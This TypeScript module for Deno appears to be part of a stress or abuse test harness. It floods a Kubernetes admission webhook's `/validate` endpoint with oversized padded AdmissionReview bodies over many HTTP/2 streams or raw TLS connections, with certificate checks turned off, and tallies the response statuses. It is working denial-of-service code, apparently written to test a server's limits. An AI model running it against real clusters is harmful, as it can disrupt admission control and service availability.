/**
 * Large admission bodies to the validation webhook (`/validate`, TLS): many HTTP/2 streams on a few
 * connections (`node:http2`), or one HTTP/1.1 connection per body (raw TLS); every body sent in full at once. The attacker process is
 * started with `--unsafely-ignore-certificate-errors=127.0.0.1` (the server's certificate is its own CA's).
 *
 * @module
 */
import http2 from "node:http2";
import { Buffer } from "node:buffer";

/** Sizes of the attack. */
export interface WebhookBodiesSizes {
  readonly connections: number;
  /** HTTP/2: streams per connection; HTTP/1.1: ignored (one request per connection). */
  readonly streams: number;
  readonly bodyBytes: number;
  readonly http1: boolean;
  /** Seconds to wait for every answer before leaving. */
  readonly holdS: number;
}

/** An AdmissionReview whose object is padded to about `bytes`. */
function paddedReview(bytes: number): Buffer {
  const head = '{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"abuse",' +
    '"operation":"CREATE","object":{"apiVersion":"networking.istio.io/v1alpha3","kind":"VirtualService",' +
    '"metadata":{"name":"pad","namespace":"attack"},"spec":{"hosts":["';
  const tail = '"]}}}}';
  return Buffer.from(head + "x".repeat(Math.max(0, bytes - head.length - tail.length)) + tail);
}

/** Runs the attack; resolves with the answers by status. */
export async function webhookBodies(
  httpsAddr: string,
  sizes: WebhookBodiesSizes,
): Promise<Record<string, unknown>> {
  const body = paddedReview(sizes.bodyBytes);
  const statuses: Record<string, number> = {};
  const count = (key: string) => statuses[key] = (statuses[key] ?? 0) + 1;
  const deadline = new Promise<void>((resolve) => setTimeout(resolve, sizes.holdS * 1000));
  const sessions: http2.ClientHttp2Session[] = [];
  const requests: Promise<void>[] = [];
  if (sizes.http1) {
    const [hostname, port] = [
      httpsAddr.slice(0, httpsAddr.lastIndexOf(":")),
      httpsAddr.slice(httpsAddr.lastIndexOf(":") + 1),
    ];
    const head = new TextEncoder().encode(
      `POST /validate HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\n` +
        `Content-Length: ${body.length}\r\nConnection: close\r\n\r\n`,
    );
    for (let c = 0; c < sizes.connections; c++) {
      requests.push((async () => {
        let conn: Deno.TlsConn | undefined;
        try {
          conn = await Deno.connectTls({ hostname, port: Number(port) });
          await conn.write(head);
          for (let at = 0; at < body.length;) at += await conn.write(body.subarray(at));
          const buffer = new Uint8Array(256);
          const n = await conn.read(buffer);
          const status = n === null
            ? "closed"
            : /^HTTP\/1\.1 (\d+)/.exec(new TextDecoder().decode(buffer))?.[1];
          count(status ?? "unparsed");
        } catch (e) {
          count(`error ${(e as Error).message.slice(0, 60)}`);
        } finally {
          conn?.close();
        }
      })());
    }
  } else {
    for (let c = 0; c < sizes.connections; c++) {
      const session = http2.connect(`https://${httpsAddr}`, { rejectUnauthorized: false });
      session.on("error", () => {});
      sessions.push(session);
      for (let s = 0; s < sizes.streams; s++) {
        requests.push(
          new Promise<void>((resolve) => {
            const req = session.request({
              ":method": "POST",
              ":path": "/validate",
              "content-type": "application/json",
            });
            req.on("response", (headers) => count(String(headers[":status"])));
            req.on("error", (e: Error) => count(`error ${e.message.slice(0, 60)}`));
            req.on("close", resolve);
            req.resume();
            req.end(body);
          }),
        );
      }
    }
  }
  const answered = await Promise.race([Promise.all(requests).then(() => true), deadline.then(() => false)]);
  for (const session of sessions) session.destroy();
  return { requests: requests.length, bodyBytes: body.length, allAnswered: answered, statuses };
}
